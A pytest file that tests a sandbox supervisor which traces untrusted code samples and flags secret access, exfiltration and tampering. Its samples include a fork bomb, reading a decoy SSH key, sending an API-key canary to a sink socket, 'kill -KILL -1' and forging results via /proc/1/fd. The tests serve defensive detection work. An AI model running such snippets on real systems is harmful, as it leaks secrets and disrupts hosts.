"""The real sandbox/supervisor.py, run on this host under strace as an unprivileged user (no Docker).

supervisor_harness.run gives it the container's shape: tmpfs /work, /home/sandbox and /tmp in a private
mount namespace, a private network namespace with only `lo` (unless netns=False), and, unless pid1=False, a
private PID namespace where the supervisor is PID 1. Needs root (namespaces, user switch), strace, setpriv and
the user `sandboxtest`; skipped otherwise. The Docker path is covered by the host helper's tests.
"""

import socket
import subprocess
import sys
import time
from pathlib import Path

import pytest

sys.path.insert(0, str(Path(__file__).parent))
import supervisor_harness as harness

from codeeval.execution import behaviours, honeytokens, monitor

REASON = harness.available()
pytestmark = [pytest.mark.slow, pytest.mark.skipif(REASON is not None, reason=REASON or "")]


def classify(result, tokens=None):
    events, found = behaviours.classify_result(result, tokens, sources=result["_sources"])
    return events, {b.id: b for b in found}


def leftover_processes(settle_s: float = 3.0) -> str:
    """Live processes of the test user (zombies waiting for a reaper outside the sandbox do not count). A
    process SIGKILLed a moment ago is still listed (running) until the kernel has torn it down: on a loaded
    machine that takes a while, so wait up to `settle_s` for the list to empty."""
    deadline = time.monotonic() + settle_s
    while True:
        proc = subprocess.run(["ps", "-u", harness.USER, "-o", "pid=,stat=,args="], capture_output=True, text=True,
                              check=False)
        left = "\n".join(line for line in proc.stdout.splitlines() if "Z" not in line.split()[1])
        if not left or time.monotonic() > deadline:
            return left
        time.sleep(0.1)


def test_benign_sample_gets_output_exit_status_decoys_and_planted_tokens():
    tokens = honeytokens.generate()
    code = (
        "import os\n"
        "print('hello')\n"
        "print(all(os.path.exists(os.path.expanduser(p)) for p in ('~/.ssh/id_rsa', '~/.aws/credentials', '/work/.env')))\n"
        "print(os.environ['OPENAI_API_KEY'][:12])\n"
        "raise SystemExit(3)\n"
    )
    result = harness.run(code, tokens=tokens)
    assert result["supervisor_error"] is None, result["notes"]
    assert (result["exit_code"], result["signal"], result["timed_out"]) == (3, None, False)
    assert result["stdout"] == "hello\nTrue\nsk-codeeval-\n"
    assert [d["name"] for d in result["decoys"]] == ["sshd", "dockerd", "containerd", "nginx", "mysqld", "postgres",
                                                     "redis-server", "cron"]
    assert all(d["name"] in d["cmdline"] for d in result["decoys"])
    assert result["trace"][0].split()[2].startswith('execve("/usr/bin/python3"')
    _, found = classify(result, tokens)
    assert behaviours.verdict(found.values()) == "clean", found


def test_reading_a_honeytoken_is_traced_and_returns_the_jobs_canary():
    tokens = honeytokens.generate()
    result = harness.run("import os\nprint(open(os.path.expanduser('~/.ssh/id_rsa')).read(), end='')\n", tokens=tokens)
    assert result["stdout"] == tokens.ssh_key
    events, found = classify(result, tokens)
    assert any(e.kind == "open" and e.detail["path"] == "/home/sandbox/.ssh/id_rsa" for e in events)
    assert found["secrets.access"].evidence[0]["honeytoken"] == "ssh_key"
    assert any(r["event"] == "open" and r["args"][0] == "/home/sandbox/.ssh/id_rsa" for r in result["audit"])


def test_fork_bomb_is_contained_by_a_low_nproc_limit_and_nothing_is_left():
    start = time.monotonic()
    result = harness.run(":(){ :|:& };:\n", language="bash", timeout=3, rlimits={"nproc": 60}, pid1=False)
    assert time.monotonic() - start < 3 + 10
    assert result["supervisor_error"] is None
    _, found = classify(result)
    assert found["resource.fork_bomb"].evidence[0]["eagain"] >= 1
    assert leftover_processes() == ""  # the supervisor's own kill-all, not a namespace teardown


def test_output_flood_is_capped_truncated_and_stopped_at_the_deadline():
    start = time.monotonic()
    result = harness.run("import sys\nwhile True:\n    sys.stdout.write('A' * 4095 + '\\n')\n", timeout=2,
                         stdout_cap=65536)
    assert time.monotonic() - start < 2 + 10
    assert len(result["stdout"]) == 65536 and result["stdout_truncated"]
    assert result["timed_out"] and result["signal"] == 9
    _, found = classify(result)
    assert "resource.output_flood" in found


def test_connect_to_the_sink_on_a_high_port_records_the_payload():
    tokens = honeytokens.generate()
    port = harness.free_port()
    code = (
        "import os, socket\n"
        f"s = socket.create_connection(('127.0.0.1', {port}))\n"
        "s.sendall(b'key=' + os.environ['OPENAI_API_KEY'].encode())\n"
        "s.close()\n"
    )
    result = harness.run(code, tokens=tokens, netns=False, sink_ports=[port])
    assert result["sink_ports"] == [port]
    assert harness.base64.b64decode(result["sink"][0]["payload_b64"]) == b"key=" + tokens.api_key.encode()
    _, found = classify(result, tokens)
    assert found["exfiltration"].evidence[0]["canaries"] == ["api_key"]
    assert "network.egress" in found


def test_resolver_answers_loopback_so_the_connect_lands_in_the_sink():
    code = (
        "import socket\n"
        "print(socket.gethostbyname('updates.example.com'))\n"
        "socket.create_connection(('updates.example.com', 8080), timeout=2).sendall(b'ping')\n"
    )
    result = harness.run(code)
    assert result["stdout"] == "127.0.0.1\n"
    assert {"qname": "updates.example.com", "qtype": 1, "answer": "127.0.0.1"} in result["dns"]
    assert result["sink"][0]["port"] == 8080
    _, found = classify(result)
    assert found["network.dns"].evidence[0]["qname"] == "updates.example.com"


HOST_PYTEST = subprocess.run([harness.PYTHON, "-c", "import pytest"], capture_output=True, check=False).returncode == 0


@pytest.mark.skipif(not HOST_PYTEST, reason="Debian's python3-pytest is not installed (apt-get install python3-pytest)")
def test_pytest_mode_reports_each_outcome_with_markers():
    tests = (
        "import pytest\nfrom solution import add\n\n"
        "@pytest.mark.functionality\ndef test_add():\n    assert add(1, 2) == 3\n\n"
        "@pytest.mark.security\ndef test_wrong():\n    assert add(1, 1) == 3\n\n"
        "@pytest.fixture\ndef broken():\n    raise RuntimeError('x')\n\n"
        "def test_error(broken):\n    pass\n"
    )
    result = harness.run(tests, mode="pytest", files={"solution.py": b"def add(a, b):\n    return a + b\n"},
                         timeout=30)
    outcomes = {t["name"]: (t["outcome"], t["markers"]) for t in result["tests"]}
    assert outcomes == {
        "test_sample.py::test_add": ("passed", ["functionality"]),
        "test_sample.py::test_wrong": ("failed", ["security"]),
        "test_sample.py::test_error": ("error", []),
    }
    assert result["exit_code"] == 1
    _, found = classify(result)
    assert behaviours.verdict(found.values()) == "clean", found


def test_supervisor_as_pid1_survives_kill_minus_one():
    result = harness.run("kill -TERM -1\nkill -KILL -1\n", language="bash", pid1=True)
    assert result["tracer_killed"] in (9, 15)
    _, found = classify(result)
    assert "process.tamper" in found


def test_residual_risk_without_pid1_kill_minus_one_takes_the_supervisor_down():
    # Documented weakness: same uid, so under docker-init the supervisor dies with everything else and the
    # host must report from exit status alone. Run the supervisor as PID 1 (docker init=False) to avoid it.
    with pytest.raises(RuntimeError, match="no result line"):
        harness.run("kill -KILL -1\n", language="bash", pid1=False)
    assert leftover_processes() == ""


def test_deleting_work_and_closing_every_fd_does_not_stop_the_report():
    code = (
        "import os, shutil, time\n"
        "shutil.rmtree('/work', ignore_errors=True)\n"
        "os.closerange(0, 1024)\n"
        "time.sleep(1)\n"
        "os._exit(3)\n"
    )
    result = harness.run(code, timeout=5)
    assert result["exit_code"] == 3 and not result["timed_out"]
    assert result["duration_s"] >= 1.0  # closing stdout/stderr did not end the run early
    _, found = classify(result)
    assert "filesystem.destructive" not in found or all(
        e.get("path", "").startswith("/work") for e in found["filesystem.destructive"].evidence)


def test_daemon_is_recorded_as_a_survivor_and_killed():
    code = (
        "import os, threading\n"
        "if os.fork() == 0:\n"
        "    os.setsid()\n"
        "    if os.fork() == 0:\n"
        "        threading.Event().wait(60)\n"
        "    os._exit(0)\n"
        "print('parent done')\n"
    )
    result = harness.run(code, timeout=5, pid1=False)
    assert result["exit_code"] == 0 and not result["timed_out"]
    assert result["survivors"] and "sample.py" in result["survivors"][0]["cmdline"]
    assert leftover_processes() == ""


def test_deadline_kills_a_sleeping_sample_quickly():
    start = time.monotonic()
    result = harness.run("import threading\nthreading.Event().wait(30)\n", timeout=1)
    assert result["timed_out"] and time.monotonic() - start < 8
    _, found = classify(result)
    assert found["resource.cpu"].severity.label == "low"  # idle, not spinning


def test_untraced_mode_still_runs_and_audits():
    result = harness.run("import subprocess\nsubprocess.run(['true'])\nprint('ok')\n", trace=False)
    assert result["trace"] == [] and result["stdout"] == "ok\n" and result["exit_code"] == 0
    assert any(r["event"] == "subprocess.Popen" for r in result["audit"])


def test_ports_in_use_degrade_to_notes_and_the_sample_still_runs():
    with socket.socket() as tcp, socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as udp:
        tcp.bind(("127.0.0.1", 0))
        tcp.listen(1)
        udp.bind(("127.0.0.1", 0))
        result = harness.run("print('ran')\n", netns=False, sink_ports=[tcp.getsockname()[1]],
                             dns_port=udp.getsockname()[1])
    assert result["stdout"] == "ran\n" and result["exit_code"] == 0
    assert result["supervisor_error"] is None
    assert any("resolver not started" in n for n in result["notes"])
    assert any("sink not started" in n for n in result["notes"])


def test_trace_lines_parse_without_leftovers():
    result = harness.run("import json\nprint(json.dumps(sorted([3, 1, 2])))\n")
    parser = monitor.TraceParser(cwd="/work")
    parser.feed(result["trace"])
    parser.finish()
    assert parser.unparsed == 0


def test_strace_refused_falls_back_to_an_untraced_run():
    # A runtime that refuses ptrace makes strace exit before the sample starts: the supervisor says so
    # and runs the sample untraced instead of reporting strace's failure as the sample's.
    fake = '#!/bin/sh\necho "strace: ptrace(PTRACE_TRACEME, ...): Operation not permitted" >&2\nexit 1\n'
    result = harness.run("print('ran')\n", fake_strace=fake)
    assert result["stdout"] == "ran\n" and result["exit_code"] == 0 and result["trace"] == []
    assert "tracing unavailable" in result["supervisor_error"]


def test_signals_to_pid1_do_not_end_the_run():
    # PID 1 only receives signals it handles; Python's own SIGINT handler would have let `kill -INT 1`
    # end the run without a result (it did, in the container, before the supervisor replaced it).
    code = (
        "import os, signal, time\n"
        "for s in (signal.SIGINT, signal.SIGTERM, signal.SIGHUP, signal.SIGQUIT, signal.SIGKILL):\n"
        "    os.kill(1, s)\n"
        "time.sleep(0.3)\n"
        "print('after')\n"
    )
    result = harness.run(code, pid1=True)
    assert result["stdout"] == "after\n" and result["supervisor_error"] is None
    _, found = classify(result)
    assert {e.get("target") for e in found["process.tamper"].evidence} == {1}


def test_the_sample_is_the_oom_killers_first_choice_not_the_supervisor():
    result = harness.run("print(open('/proc/self/oom_score_adj').read().strip(), open('/proc/1/oom_score_adj').read().strip())\n")
    assert result["stdout"] == "1000 0\n"


def test_the_sample_cannot_reach_the_supervisors_descriptors():
    # PR_SET_DUMPABLE=0: /proc/1/fd/* (the real stdout that carries the result line, the trace pipe) is
    # closed to the sample. Under docker-init the same probe reaches init's stdout and forges a result.
    code = (
        "import os\n"
        "for fd in range(0, 12):\n"
        "    try:\n"
        "        open(f'/proc/1/fd/{fd}', 'w').write('CODEEVAL-RESULT {}\\n')\n"
        "        print('opened', fd)\n"
        "    except OSError as exc:\n"
        "        pass\n"
        "print(os.listdir('/proc/1/fd') if os.access('/proc/1/fd', os.R_OK) else 'no access')\n"
    )
    result = harness.run(code, pid1=True)
    assert "opened" not in result["stdout"]
    assert result["stdout"] == "no access\n"
    assert result["supervisor_error"] is None


def test_flooding_the_trace_cannot_push_out_later_evidence():
    code = (
        "import os, socket\n"
        "for i in range(20000):\n"
        "    os.path.exists(f'/nonexistent/{i}')\n"
        "try:\n"
        "    socket.create_connection(('10.9.8.7', 4444), timeout=1)\n"
        "except OSError:\n"
        "    pass\n"
    )
    result = harness.run(code, trace_cap=2000, timeout=20)
    assert result["trace_truncated"] and result["trace_dropped"] > 10000
    assert len(result["trace"]) < 2000 + 500
    _, found = classify(result)
    assert any(e.get("addr") == "10.9.8.7" for e in found["network.egress"].evidence)
